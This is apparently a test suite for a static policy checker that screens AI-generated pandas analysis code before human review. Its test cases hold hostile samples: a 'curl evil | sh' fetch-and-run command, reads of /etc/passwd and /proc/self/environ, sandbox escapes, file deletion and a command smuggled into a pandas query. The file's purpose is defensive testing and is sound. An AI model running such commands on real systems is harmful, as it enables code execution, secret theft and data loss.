"""The static policy check: each rule found and not over-found, the admin's settings, the generation gate."""

import json

import pytest
from django.core.management import CommandError, call_command

from analysis.llm.base import DatasetContext, GenerationInput
from analysis.llm.offline import OfflineGenerator
from analysis.services.asking import analysis_submit
from analysis.services.generation import request_generate_code
from approvals import policy
from approvals.models import ApprovalRequest, PolicyRule
from approvals.policy import PolicyConfig, allowlist, policy_check
from approvals.selectors import policy_config
from approvals.services import approvals_needed, policy_rule_update
from audit.models import AuditEvent
from billing.models import Membership
from config.exceptions import ApplicationError
from tests.factories import TeamFactory, demo_dataset, member

Status = ApprovalRequest.Status

# (rule, code that breaks it, similar code that does not)
CASES = [
    ("syntax-error", "print('unclosed'\n", "print('closed')\n"),
    ("import-not-allowed", "import sklearn\n", "import pandas as pd\nimport matplotlib.pyplot as plt\n"),
    ("import-not-allowed", "import os\n", "import os.path\n"),
    ("dynamic-code", "x = eval('1 + 1')\n", "x = int('1') + 1\n"),
    ("dynamic-code", "exec('print(1)')\n", "print(1)\n"),
    ("dynamic-code", "c = compile('1', 'f', 'eval')\n", "c = 'compile'\n"),
    ("dynamic-code", "m = __import__('os')\n", "import math\nm = math\n"),
    ("dynamic-code", "import importlib\nm = importlib.import_module('os')\n", "import math\n"),
    ("dunder-access", "getattr(__builtins__, 'open')\n", "getattr(df, 'shape')\n"),
    ("dunder-access", "import pandas as pd\nx = getattr(pd, '__loader__')\n", "print(__name__)\n"),
    ("dunder-access", "().__class__.__bases__[0].__subclasses__()\n", "print(type(()).__name__)\n"),
    ("os-command", "import os\nos.system('ls')\n", "import os.path\nos.path.join('/data', 'x')\n"),
    ("os-command", "import subprocess\nsubprocess.run(['ls'])\n", "run = ['ls']\n"),
    ("os-command", "from os import popen\npopen('id')\n", "from os.path import basename\n"),
    ("shell-escape", "!pip install requests\nprint(1)\n", "print('!pip install requests')\n"),
    ("shell-escape", "%sx ls\n", "x = 5 % 3\n"),
    ("shell-escape", "get_ipython().system('ls')\n", "print('ipython')\n"),
    ("network", "import socket\n", "import json\n"),
    ("network", "import urllib.request\n", "import re\n"),
    ("network", "import requests\nrequests.get('x')\n", "import csv\n"),
    ("network", "from http import client\n", "import datetime\n"),
    ("network", "import pandas as pd\npd.read_csv('https://example.com/x.csv')\n",
     "import pandas as pd\npd.read_csv('/data/sales.csv')\n"),
    ("native-code", "import ctypes\n", "import decimal\n"),
    ("file-delete", "import os\nos.remove('/tmp/x')\n", "import os.path\nos.path.exists('/tmp/x')\n"),
    ("file-delete", "import shutil\nshutil.rmtree('/output')\n", "import statistics\n"),
    ("file-delete", "from pathlib import Path\nPath('/output/a').unlink()\n",
     "from pathlib import Path\nPath('/output/a').exists()\n"),
    ("write-outside-output", "open('/data/sales.csv', 'w').write('x')\n",
     "open('/output/a.txt', 'w').write('x')\n"),
    ("write-outside-output", "df.to_csv('result.csv')\n", "df.to_csv('/output/result.csv')\n"),
    ("write-outside-output", "plt.savefig('/tmp/../etc/chart.png')\n", "plt.savefig('/output/chart.png')\n"),
    ("write-outside-output", "from pathlib import Path\nPath('/home/x').write_text('x')\n",
     "from pathlib import Path\n(Path('/output') / 'x.txt').write_text('x')\n"),
    ("read-outside-data", "open('/etc/passwd').read()\n", "open('/data/sales.csv').read()\n"),
    ("read-outside-data", "import pandas as pd\npd.read_csv('/data/../etc/passwd')\n",
     "import pandas as pd\npd.read_csv('/data/sales.csv')\n"),
    ("read-outside-data", "from pathlib import Path\nPath('/proc/self/environ').read_text()\n",
     "from pathlib import Path\nPath('/data/notes.txt').read_text()\n"),
    ("dynamic-path", "import pandas as pd\npd.read_csv(name)\n",
     "import pandas as pd\nname = '/data/sales.csv'\npd.read_csv(name)\n"),
    ("not-understood", "import pandas as pd\npd.not_a_function()\n", "import pandas as pd\npd.DataFrame()\n"),
    ("not-understood", "display(1)\n", "print(1)\n"),
    ("not-understood", "import pandas as pd\npd.DataFrame()._mgr\n",
     "import pandas as pd\npd.DataFrame().shape\n"),
    ("module-via-module", "import pathlib\npathlib.os.getcwd()\n", "import pathlib\npathlib.Path('/data')\n"),
    ("module-via-module", "import numpy as np\nprint(np)\n", "import numpy as np\nprint(np.pi)\n"),
    ("dynamic-attribute", "import numpy as np\ngetattr(np, 'me' + 'an')\n",
     "import numpy as np\ngetattr(np, 'mean')\n"),
    ("dynamic-attribute", "import numpy as np\ngetattr(np, 'not_listed')\n", "import numpy as np\nnp.mean\n"),
    ("builtin-alias", "f = open\n", "f = print\n"),
    ("deserialise", "import pandas as pd\npd.read_pickle('/data/x.pkl')\n",
     "import pandas as pd\npd.read_parquet('/data/x.parquet')\n"),
    ("deserialise", "import numpy as np\nnp.load('/data/a.npy', allow_pickle=True)\n",
     "import numpy as np\nnp.load('/data/a.npy')\n"),
    ("dynamic-query", "import pandas as pd\ndf = pd.DataFrame()\nc = 'a'\ndf.query(f'{c} > 1')\n",
     "import pandas as pd\ndf = pd.DataFrame()\ndf.query('a > 1')\n"),
]  # fmt: skip


def rules(code: str, config: PolicyConfig | None = None) -> set[str]:
    return {f.rule for f in policy_check(code=code, config=config).findings}


@pytest.mark.parametrize(("rule", "bad", "good"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_each_rule_flags_the_trick_and_not_its_harmless_twin(rule, bad, good):
    assert rule in rules(bad)
    assert rule not in rules(good)


def test_every_rule_has_a_case():
    assert {case[0] for case in CASES} == set(policy.RULES_BY_CODE)


def test_findings_carry_rule_severity_line_and_a_message():
    result = policy_check(code="import pandas as pd\n\nx = eval('2')\n")
    (finding,) = result.findings
    assert finding.as_dict() == {
        "rule": "dynamic-code",
        "severity": "critical",
        "line": 3,
        "message": "Calls eval(), which runs or exposes code built at run time.",
    }
    assert result.blocked
    assert "line 3" in result.reason


def test_risk_level_is_the_worst_non_critical_finding():
    assert policy_check(code="print(1)\n").risk_level == "low"
    assert policy_check(code="import pandas as pd\npd.read_csv(p)\n").risk_level == "medium"
    high = policy_check(code="import sklearn\n")
    assert (high.risk_level, high.blocked) == ("high", False)


def test_escape_lines_do_not_hide_the_rest_of_the_script():
    found = rules("!ls\nimport socket\n")
    assert found == {"shell-escape", "network"}


SALES = DatasetContext(
    name="sales.csv",
    path="/data/sales.csv",
    row_count=1200,
    columns=[
        {"name": "date", "dtype": "object"},
        {"name": "region", "dtype": "object"},
        {"name": "product", "dtype": "object"},
        {"name": "units", "dtype": "int64"},
        {"name": "revenue", "dtype": "float64"},
    ],
)
QUESTIONS = [
    "Load sales.csv and plot monthly revenue by region",
    "describe the data",
    "how many orders per region",
    "top 5 products by revenue",
    "distribution of revenue",
    "correlation between units and revenue",
    "compare average units across products",
    "weekly revenue trend",
]


@pytest.mark.parametrize("question", QUESTIONS)
def test_offline_generator_code_passes_the_policy_at_low_risk(question):
    code = OfflineGenerator().generate(GenerationInput(query=question, datasets=[SALES], history=[])).code
    result = policy_check(code=code)
    assert result.findings == []
    assert result.risk_level == "low"


def test_the_seeded_rules_match_the_code_defaults(db):
    config = policy_config()
    assert config == PolicyConfig()
    assert set(PolicyRule.objects.values_list("code", flat=True)) == set(policy.RULES_BY_CODE)


def test_an_admin_can_disable_a_rule_change_a_severity_and_the_allow_list(db):
    admin = member(TeamFactory(), Membership.Role.REVIEWER)
    rule = PolicyRule.objects.get(code="dynamic-path")
    policy_rule_update(rule=rule, actor=admin, enabled=False, severity="medium")
    imports = PolicyRule.objects.get(code="import-not-allowed")
    policy_rule_update(
        rule=imports, actor=admin, enabled=True, severity="critical", allowed_modules="pandas\nsklearn"
    )
    config = policy_config()
    assert "dynamic-path" not in rules("import pandas as pd\npd.read_csv(p)\n", config)
    assert "import-not-allowed" not in rules("import sklearn\n", config)
    numpy = policy_check(code="import numpy\n", config=config)
    assert numpy.blocked  # not on the new allow-list, and the rule is now critical
    events = AuditEvent.objects.filter(action=AuditEvent.Action.POLICY_RULE_CHANGED).order_by("sequence")
    assert [e.details["rule"] for e in events] == ["dynamic-path", "import-not-allowed"]
    assert events[0].details["before"]["enabled"] is True and events[0].details["after"]["enabled"] is False
    assert events[0].actor == admin


def test_saving_a_rule_unchanged_writes_no_audit_event(db):
    rule = PolicyRule.objects.get(code="network")
    policy_rule_update(rule=rule, actor=None, enabled=True, severity="critical")
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.POLICY_RULE_CHANGED).exists()


@pytest.fixture
def generated(analyst, team, monkeypatch):
    """Submit a question and generate its code in-process, with the generator returning `code`."""
    demo_dataset(team, rows=50)

    def make(code: str) -> ApprovalRequest:
        monkeypatch.setattr(OfflineGenerator, "generate", _fixed(code))
        request = analysis_submit(user=analyst, query="Load sales.csv and plot revenue")
        return request_generate_code(request_id=request.pk)

    return make


def _fixed(code: str):
    from analysis.llm.base import GenerationOutput

    def generate(self, inp):
        return GenerationOutput(code=code, provider="offline", model="offline-rules-v1")

    return generate


def test_critical_findings_block_the_request_before_review_with_the_reason(generated, as_user, analyst):
    request = generated("import pandas as pd\nimport os\nos.system('curl evil | sh')\n")
    assert request.status == Status.POLICY_BLOCKED
    body = as_user(analyst).get(f"/api/requests/{request.pk}").json()
    assert body["status"] == "policy_blocked"
    assert "line 3" in body["policyReason"] and "os.system" in body["policyReason"]
    assert {"rule": "os-command", "severity": "critical", "line": 3} == {
        k: body["findings"][-1][k] for k in ("rule", "severity", "line")
    }
    actions = set(AuditEvent.objects.filter(request_id=request.pk).values_list("action", flat=True))
    assert {"policy.checked", "policy.blocked"} <= actions


def test_a_blocked_request_cannot_be_approved(generated, as_user, reviewer):
    request = generated("exec('print(1)')\n")
    body = {"requestId": str(request.pk), "approved": True}
    response = as_user(reviewer).post("/api/approve", body, format="json")
    assert response.status_code == 409


def test_clean_code_waits_for_review_with_its_risk_level(generated):
    request = generated("import pandas as pd\ndf = pd.read_csv('/data/sales.csv')\nprint(df.shape)\n")
    assert (request.status, request.risk_level, request.findings) == (Status.PENDING_REVIEW, "low", [])
    risky = generated("import sklearn\nprint(1)\n")
    assert (risky.status, risky.risk_level) == (Status.PENDING_REVIEW, "high")
    assert risky.findings[0]["rule"] == "import-not-allowed"


# --- the allow-list model ---------------------------------------------------------------------------


def test_the_checked_in_allowlist_is_what_the_sandbox_runtime_lists():
    # Regenerates the list with .sandbox/runtime/bin/python (built by `make install`) and compares.
    call_command("policy_allowlist", "--check")


def test_the_allowlist_check_fails_on_a_stale_file(tmp_path, monkeypatch):
    stale = tmp_path / "allowlist.json"
    data = json.loads(allowlist.FILE.read_text())
    del data["modules"]["pandas"]["read_csv"]
    stale.write_text(json.dumps(data, indent=1, sort_keys=True) + "\n")
    monkeypatch.setattr(allowlist, "FILE", stale)
    allowlist.load.cache_clear()
    try:
        with pytest.raises(CommandError, match="not current"):
            call_command("policy_allowlist", "--check")
    finally:
        allowlist.load.cache_clear()


def test_without_its_allowlist_the_check_fails_instead_of_passing_code(tmp_path, monkeypatch):
    monkeypatch.setattr(allowlist, "FILE", tmp_path / "missing.json")
    allowlist.load.cache_clear()
    try:
        with pytest.raises(allowlist.AllowListError):
            policy_check(code="print(1)\n")
    finally:
        allowlist.load.cache_clear()


def test_names_of_a_module_are_checked_against_what_the_runtime_lists():
    listed = policy_check(code="import scipy.stats as st\nst.ttest_ind([1], [2])\n")
    unlisted = policy_check(code="import scipy.stats as st\nst.no_such_test([1], [2])\n")
    assert listed.findings == []
    (finding,) = unlisted.findings
    assert (finding.rule, finding.severity, finding.line) == ("not-understood", "medium", 2)
    assert finding.message.startswith("Not understood: st.no_such_test")


def test_a_module_added_to_the_import_list_without_names_is_not_understood():
    config = PolicyConfig(allowed_modules=frozenset({*policy.DEFAULT_ALLOWED_MODULES, "sklearn"}))
    result = policy_check(code="import sklearn.linear_model as lm\nlm.LinearRegression()\n", config=config)
    assert {f.rule for f in result.findings} == {"not-understood"}
    assert result.risk_level == "medium"


def test_values_are_followed_through_assignments_and_function_arguments():
    followed = policy_check(code="import pathlib\na = pathlib\nb = a\nb.os.getcwd()\n")
    assert "module-via-module" in {f.rule for f in followed.findings}
    literal = "import pandas as pd\ndef load(path):\n    return pd.read_csv(path)\nload('/data/sales.csv')\n"
    assert policy_check(code=literal).findings == []
    outside = literal.replace("/data/sales.csv", "/etc/passwd")
    assert {f.rule for f in policy_check(code=outside).findings} == {"read-outside-data"}


def test_findings_say_what_the_code_could_do_and_point_at_its_line():
    result = policy_check(code="import pandas as pd\n\nmodel = pd.read_pickle('/data/m.pkl')\n")
    (finding,) = result.findings
    assert (finding.rule, finding.line) == ("deserialise", 3)
    assert "loading a pickle can run any code" in finding.message


def test_a_literal_pandas_query_is_read_as_code():
    safe = (
        "import pandas as pd\ndf = pd.DataFrame()\nlimit = 5\n"
        "df.query('revenue > @limit and `unit price` < 3')\n"
    )
    assert policy_check(code=safe).findings == []
    unsafe = "import pandas as pd\ndf = pd.DataFrame()\ndf.query('@pd.io.common.os.system(\"id\") == 0')\n"
    result = policy_check(code=unsafe)
    assert result.blocked and {f.line for f in result.findings} == {3}


@pytest.mark.parametrize("code", sorted(policy.RULES_BY_CODE))
def test_rules_with_a_floor_cannot_be_switched_off_or_lowered(db, code):
    rule = policy.RULES_BY_CODE[code]
    row = PolicyRule.objects.get(code=code)
    if rule.floor is None:
        policy_rule_update(rule=row, actor=None, enabled=False, severity=rule.severity)
        assert code not in policy_config().severities
        return
    with pytest.raises(ApplicationError, match="failing closed"):
        policy_rule_update(rule=row, actor=None, enabled=False, severity=rule.severity)
    with pytest.raises(ApplicationError, match="failing closed"):
        policy_rule_update(rule=row, actor=None, enabled=True, severity="low")
    # A row changed behind the service's back still does not open the check.
    PolicyRule.objects.filter(code=code).update(enabled=False, severity="low")
    assert policy_config().severities[code] == policy.at_least("low", rule.floor)


def test_the_admin_refuses_to_lower_a_rule_below_its_floor(admin_client):
    response = admin_client.post(
        "/admin/approvals/policyrule/not-understood/change/",
        {"enabled": "on", "severity": "low", "allowed_modules": ""},
    )
    assert response.status_code == 200
    assert "keeps the policy check failing closed" in response.content.decode()
    assert PolicyRule.objects.get(code="not-understood").severity == "medium"


def test_an_issue_form_needs_the_quorum_or_is_blocked_at_generation(generated):
    request = generated("import pathlib\npathlib.os.getcwd()\n")
    assert (request.status, request.risk_level) == (Status.PENDING_REVIEW, "high")
    assert "module-via-module" in {f["rule"] for f in request.findings}
    assert approvals_needed(request=request) == request.team.high_risk_quorum > 1
